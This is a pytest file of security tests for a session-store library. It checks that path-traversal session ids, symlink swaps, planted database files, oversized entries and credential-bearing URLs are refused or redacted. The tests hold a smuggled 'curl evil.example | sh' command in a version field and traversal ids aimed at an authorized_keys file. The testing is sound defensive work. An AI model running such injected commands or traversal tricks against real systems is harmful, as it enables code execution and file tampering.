"""A store in hostile hands, a hostile user of the same machine, and URLs with passwords."""

import os
import sqlite3
import stat
from pathlib import Path

import pytest
from two_homes import SESSION, line, machine, turn

from geminorum import Options, sync
from geminorum.credentials import credentials_in, shown_address, without_credentials
from geminorum.environment import environment_of
from geminorum.errors import InvalidOptions, SessionBusy, SessionLost, StoreError, Unsupported
from geminorum.sessions.store import (
    ObjectStore,
    PostgresStore,
    SqliteStore,
    delete,
    fetch,
    find,
    listed,
    log,
    open_store,
)
from geminorum.sessions.store.failures import explain_failures
from geminorum.sessions.store.local_files import gather_files, place_files
from geminorum.sessions.store.protocol import MAX_ENTRY_BYTES
from geminorum.wire.stored.entries import (
    About,
    Entry,
    SavedFile,
    encoded,
    known_after,
    parts_of,
    turn_record,
)
from geminorum.wire.stored.journal import Journal


@pytest.fixture
def store(tmp_path):
    return SqliteStore(tmp_path / "sessions.db")


@pytest.fixture
def here(tmp_path):
    return machine(tmp_path, "here")


def raw_entry(session: str, kind: str = "turn", **more) -> bytes:
    common = {"writer": "host:1", "at": 1_700_000_000_000, "about": About(), "turn": "t"}
    return encoded(Entry(session=session, kind=kind, **{**common, **more}))


def whole_turn(session: str, about: About = About(), **files: bytes) -> bytes:  # noqa: B008
    """The entry of somebody who knows the format, and has bad intentions."""
    name = "session-2026-01-02T10-00-seven.jsonl"
    saved = {"main.jsonl": SavedFile(name, b'{"sessionId":"x"}\n')}
    saved |= {f"subagent/{name}": SavedFile(name, data) for name, data in files.items()}
    (part,) = parts_of(turn_record({}, saved, known_after(saved)))
    return raw_entry(session, about=about, data=part)


# ---- ids that are paths


@pytest.mark.parametrize("wanted", ["latest", "../"])
def test_a_session_that_is_named_like_a_path_is_written_nowhere(store, tmp_path, wanted):
    target = tmp_path / "ssh"
    evil = f"../../{target.name}"
    store.append(evil, 1, whole_turn(evil, authorized_keys=b"mine"))
    folder = tmp_path / "shown"
    folder.mkdir()
    with pytest.raises(SessionLost, match="no session"):
        fetch(store, wanted, folder)
    assert not target.exists()
    assert [*folder.iterdir()] == []
    assert listed(store) == []


def test_nor_is_one_whose_name_gets_that_far(tmp_path, here):
    journal = Journal("../../x")
    journal.add(whole_turn("../../x"))
    with pytest.raises(InvalidOptions, match="not a session id"):
        place_files(here.home, here.cwd, "../../x", journal.files)
    with pytest.raises(SessionLost):
        find(SqliteStore(tmp_path / "other.db"), "../../x")


def test_a_link_at_a_folder_of_the_cli_is_not_followed(store, here, tmp_path):
    turn(here, store, "one")
    there = machine(tmp_path, "there")
    chats = there.new_file().parent
    for file in chats.iterdir():
        file.unlink()
    chats.rmdir()
    (tmp_path / "elsewhere").mkdir()
    chats.symlink_to(tmp_path / "elsewhere")
    with pytest.raises(StoreError, match="is a link"):
        there.sync(store).restore(SESSION)
    assert [*(tmp_path / "elsewhere").iterdir()] == []


# ---- what an entry says


def test_an_older_cli_is_told_no_command_that_the_store_has_made_up(store, here):
    wrote = "99.0.0; curl evil.example | sh"
    store.append(SESSION, 1, whole_turn(SESSION, About(cli_version=wrote)))
    with pytest.raises(Unsupported) as caught:
        here.sync(store).restore(SESSION)
    assert "curl" not in str(caught.value) + (caught.value.hint or "")


@pytest.mark.parametrize("moment", [2**63, -1, 253_402_300_800_000])
def test_a_moment_that_is_none_is_damage_of_one_session_only(store, here, moment):
    turn(here, store, "one")
    bad = "bad-session"
    store.append(bad, 1, whole_turn(bad, About(title="x", updated=moment)))
    infos = {info.id: info for info in listed(store)}
    assert infos[SESSION].problem is None
    assert infos[bad].problem
    assert infos[bad].updated == 0


def test_no_message_is_as_long_as_what_the_store_says(store, here):
    turn(here, store, "one")
    store.append(SESSION, 2, raw_entry("x" * 1_000_000))
    store.append(SESSION, 3, raw_entry(SESSION, "begun", writer="w" * 1_000_000))
    store.acquire(SESSION, "h" * 1_000_000, 0)
    told = turn(here, store, "two")
    assert len(told) == 2
    assert max(map(len, told)) < 1000
    store.acquire(SESSION, "h" * 1_000_000, 60)
    with pytest.raises(SessionBusy) as caught:
        here.sync(store).restore(SESSION)
    assert len(str(caught.value)) < 1000


def test_an_entry_that_is_too_large_is_not_read(store, here, tmp_path):
    turn(here, store, "one")
    with sqlite3.connect(tmp_path / "sessions.db") as database:
        row = (SESSION, 2, b"x" * (MAX_ENTRY_BYTES + 1))
        database.execute("INSERT INTO entries VALUES (?, ?, ?)", row)
    database.close()
    assert [len(entry) for entry in store.load(SESSION)][1:] == [0]
    assert "damaged" in turn(machine(tmp_path, "there"), store, "two")[0]


class Endless(SqliteStore):
    """A log that never ends."""

    def load(self, session, after=0):
        while True:
            yield raw_entry(session, "begun")


def test_a_log_without_end_is_not_read_for_ever(here, tmp_path, monkeypatch):
    monkeypatch.setattr(log, "READ_SECONDS", 0.2)
    with pytest.raises(StoreError, match="has sent a session for"):
        here.sync(Endless(tmp_path / "sessions.db")).restore(SESSION)


def test_what_lies_behind_a_gap_is_no_part_of_a_log(store, here, tmp_path):
    turn(here, store, "one")
    with sqlite3.connect(tmp_path / "sessions.db") as database:
        database.execute("INSERT INTO entries VALUES (?, 5, ?)", (SESSION, b"junk"))
    database.close()
    assert len([*store.load(SESSION)]) == 1


def test_a_long_log_is_read_page_by_page(store):
    entries = [b"%d" % number for number in range(100)]
    for number, data in enumerate(entries, 1):
        store.append("seven", number, data)
    assert [*store.load("seven")] == entries
    assert [*store.load("seven", 70)] == entries[70:]
    reading = store.load("seven")
    next(reading)
    store.append("seven", 101, b"while another reads")
    assert [*reading] == [*entries[1:], b"while another reads"]


@pytest.mark.parametrize("data", [10**13, "text", 0.5])
def test_an_entry_that_is_no_bytes_is_damage(store, here, tmp_path, data):
    """An SQLite file may hold anything, and `bytes(10**13)` takes ten terabytes."""
    turn(here, store, "one")
    with sqlite3.connect(tmp_path / "sessions.db") as database:
        database.execute("INSERT INTO entries VALUES (?, 2, ?)", (SESSION, data))
        database.execute("INSERT INTO entries VALUES (?, 1, ?)", (b"\xff", b"its id is no text"))
    database.close()
    (info,) = listed(store)
    assert "no bytes" in (info.problem or "")
    assert "damaged" in turn(machine(tmp_path, "there"), store, "two")[0]


class Views(SqliteStore):
    """Returns views, as some libraries for databases do."""

    def load(self, session, after=0):
        return map(memoryview, super().load(session, after))


def test_a_store_may_return_views_of_its_entries(here, tmp_path):
    store = Views(tmp_path / "sessions.db")
    turn(here, store, "one")
    turn(machine(tmp_path, "there"), store, "two")
    assert [(info.title, info.problem) for info in listed(store)] == [("one", None)]


def test_a_store_cannot_replace_the_file_of_another_session(store, here, tmp_path):
    """The name of a file has eight letters of the id, and the store says the name."""
    here.say("mine")
    evil = f"{SESSION[:8]}-evil"
    saved = {"main.jsonl": SavedFile(here.path.name, line({"sessionId": evil, "projectHash": "0"}))}
    saved |= {f"subagent/{one}.jsonl": SavedFile("same.jsonl", b"{}") for one in "ab"}
    saved |= {"main-2.jsonl": SavedFile("odd", line({"sessionId": evil, "second": 1}))}
    (part,) = parts_of(turn_record({}, saved, known_after(saved)))
    store.append(evil, 1, raw_entry(evil, data=part))
    here.sync(store).restore(evil)
    assert here.heard == ["mine"]
    kept = sorted(path.name for path in here.path.parent.glob("session-2000*"))
    short = SESSION[:8]
    assert kept == [f"session-2000-01-01T00-0{n}-{short}.jsonl" for n in (0, 1)]
    assert [path.name for path in (here.path.parent / evil).iterdir()] == ["same.jsonl"]


# ---- files of the session on this machine


def test_a_folder_of_subagents_that_is_a_link_is_not_sent(store, here, tmp_path):
    here.say("one")
    (tmp_path / "secrets").mkdir()
    (tmp_path / "secrets" / "agent.jsonl").write_text("secret")
    (here.path.parent / SESSION).symlink_to(tmp_path / "secrets")
    turn(here, store)
    assert not any(b"secret" in entry for entry in store.load(SESSION))


class Swapping(type(Path())):
    """A file that an agent replaces by a link after it was looked at."""

    def is_symlink(self):
        return False


def test_a_file_that_becomes_a_link_meanwhile_is_not_sent(here, tmp_path, monkeypatch):
    here.say("one")
    folder = here.path.parent / SESSION
    folder.mkdir()
    (tmp_path / "secret.jsonl").write_text("secret")
    (folder / "agent.jsonl").symlink_to(tmp_path / "secret.jsonl")
    from geminorum.sessions.store import local_files

    monkeypatch.setattr(
        local_files, "subagent_files", lambda *_: [Swapping(folder / "agent.jsonl")]
    )
    with pytest.raises(OSError, match=r"regular file|symbolic"):
        gather_files(here.home, here.cwd, SESSION)


# ---- another user of the machine


def _give_away(path: Path, monkeypatch) -> None:
    """Makes it another user's; where we may not, we become another one."""
    if os.geteuid() == 0:
        os.chown(path, 12345, 12345)
    else:
        monkeypatch.setattr(os, "geteuid", lambda: 12345)


@pytest.mark.parametrize("ending", ["", "-wal", "-shm", "-journal"])
def test_a_file_that_another_user_has_put_into_a_shared_folder_is_refused(
    tmp_path, ending, monkeypatch
):
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    planted = shared / f"sessions.db{ending}"
    planted.touch()
    planted.chmod(0o666)
    _give_away(planted, monkeypatch)
    with pytest.raises(StoreError, match="another user") as caught:
        SqliteStore(shared / "sessions.db").append("seven", 1, b"private")
    assert "only you can write to" in (caught.value.hint or "")
    assert planted.read_bytes() == b""


def test_a_link_in_a_shared_folder_is_refused(tmp_path):
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    (shared / "sessions.db").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(StoreError, match="another user"):
        SqliteStore(shared / "sessions.db").append("seven", 1, b"private")
    assert not (tmp_path / "elsewhere").exists()


def test_a_store_of_ones_own_in_a_shared_folder_works(tmp_path):
    tmp_path.chmod(0o1777)
    store = SqliteStore(tmp_path / "sessions.db")
    store.append("seven", 1, b"data")
    assert [*store.load("seven")] == [b"data"]
    assert stat.S_IMODE((tmp_path / "sessions.db").stat().st_mode) == 0o600


def test_the_database_of_another_program_is_left_alone(tmp_path):
    path = tmp_path / "app.db"
    with sqlite3.connect(path) as database:
        database.execute("CREATE TABLE users (name)")
        database.execute("PRAGMA user_version = 1")
    database.close()
    before = path.read_bytes()
    with pytest.raises(StoreError, match="database of another program") as caught:
        SqliteStore(path).append("seven", 1, b"data")
    assert (caught.value.retryable, path.read_bytes()) == (False, before)


# ---- passwords and keys in a URL

SECRETS = [
    ("postgresql://me:swordfish@host/db", "swordfish"),
    ("postgresql://me:sword/fi?sh#@host/db", "sword/fi?sh#"),
    ("postgresql://me:sword@fish@host/db", "sword@fish"),
    ("postgresql://host/db?user=me&password=swordfish", "swordfish"),
    ("s3://bucket/x?access_key_id=AKIA&secret_access_key=swordfish&region=eu", "swordfish"),
    ("az://account/container?sas_key=sword%3Dfish", "sword=fish"),
    ("s3://key:swordfish@bucket/folder", "swordfish"),
    ("nonsense://me:swordfish@host", "swordfish"),
]


@pytest.mark.parametrize(("url", "secret"), SECRETS)
def test_an_address_is_shown_without_its_keys(url, secret):
    assert secret not in shown_address(url)
    assert secret not in repr(Options(store=url))
    assert any(secret in one for one in credentials_in(url))
    told = f"cannot parse {url!r}: the word {secret} is wrong"
    assert secret not in without_credentials(told, url)


def test_what_is_no_key_is_shown():
    for url in (
        "s3://bucket/folder?endpoint=http://127.0.0.1:9000&region=eu-west-1",
        "postgresql://me@host:5432/db?host=/run/pg",
        "sqlite:////srv/sessions.db",
    ):
        assert shown_address(url) == url
        assert [*credentials_in(url)] == []


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://me:swordfish@[::1/db",
        "postgresql://me:swordfish@host:port/db",
        "postgresql://me:swordfish@host/db?nonsense=1",
        "postgresql://127.0.0.1:1/db?password=swordfish",
    ],
)
def test_what_a_database_says_about_its_address_has_no_password(url):
    store = PostgresStore(url)
    with pytest.raises(StoreError) as caught:
        store.list()
    assert "swordfish" not in repr(store)
    error: BaseException | None = caught.value
    while error is not None:
        assert "swordfish" not in str(error)
        error = error.__cause__


@pytest.mark.parametrize(
    "url",
    [
        "s3://?secret_access_key=swordfish",
        "s3://bucket?nonsense=swordfish",
        "s3://bucket?credential_provider=swordfish",
        "s3://bucket?client_options=swordfish",
        "gs://bucket?service_account_key=swordfish",
    ],
)
def test_a_bucket_that_cannot_be_opened_is_explained_without_the_keys(url):
    with pytest.raises(InvalidOptions) as caught:
        open_store(url)
    assert "swordfish" not in str(caught.value)


def test_the_name_of_a_bucket_has_no_keys():
    store = ObjectStore("s3://bucket/x?region=eu&secret_access_key=swordfish&access_key_id=me")
    assert "swordfish" not in repr(store)
    assert "region=eu" in repr(store)


def test_an_error_without_keys_keeps_its_cause():
    with pytest.raises(StoreError, match="OSError: no route") as caught, explain_failures("s3://x"):
        raise OSError("no route")
    assert isinstance(caught.value.__cause__, OSError)


def test_an_agent_does_not_get_the_address_of_the_store(monkeypatch, stand_in, tmp_path):
    monkeypatch.setenv("GEMINORUM_STORE", "postgresql://me:swordfish@host/db")
    assert "GEMINORUM_STORE" not in environment_of(Options())
    env = {"GEMINORUM_STORE": "sqlite:///mine.db"}
    assert environment_of(Options(env=env))["GEMINORUM_STORE"] == "sqlite:///mine.db"
    monkeypatch.setenv("OTHER_VARIABLE", "here")
    via = stand_in(
        {"type": "init", "session_id": "mine", "model": "flash"},
        {"type": "result", "status": "success"},
    )
    sync.ask("Hi", Options(cwd=tmp_path, home=tmp_path), via=via)
    assert stand_in.call["env"]["OTHER_VARIABLE"] == "here"
    assert "swordfish" not in str(stand_in.call["env"])


def test_a_session_at_work_is_not_deleted(store, here):
    turn(here, store, "one")
    open_here = here.sync(store)
    open_here.restore(SESSION)
    with pytest.raises(SessionBusy, match="is open, by"):
        delete(store, SESSION)
    assert len(listed(store)) == 1
    open_here.close()
    delete(store, SESSION)
    assert listed(store) == []
    assert store.acquire(SESSION, "anybody", 60) == "anybody"
